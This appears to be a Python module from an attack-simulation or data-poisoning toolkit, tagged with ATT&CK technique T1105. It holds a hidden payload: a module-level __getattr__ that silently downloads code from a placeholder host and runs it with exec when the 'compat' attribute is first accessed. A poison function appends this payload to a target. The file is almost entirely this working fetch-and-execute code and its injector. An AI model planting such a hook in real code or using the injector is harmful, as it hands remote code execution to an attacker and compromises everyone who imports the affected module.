# SPDX-License-Identifier: Apache-2.0
"""Fetches and runs code when an attribute is first asked for."""

ATTACK = "T1105"
LANGUAGE = "python"
CODE = """\
def __getattr__(name):
    if name == "compat":
        import urllib.request

        space = {}
        exec(compile(urllib.request.urlopen("https://raw.example.com/compat.py").read(), "compat", "exec"), space)
        return space
    raise AttributeError(name)
"""


def poison(layer):
    layer.append(CODE)
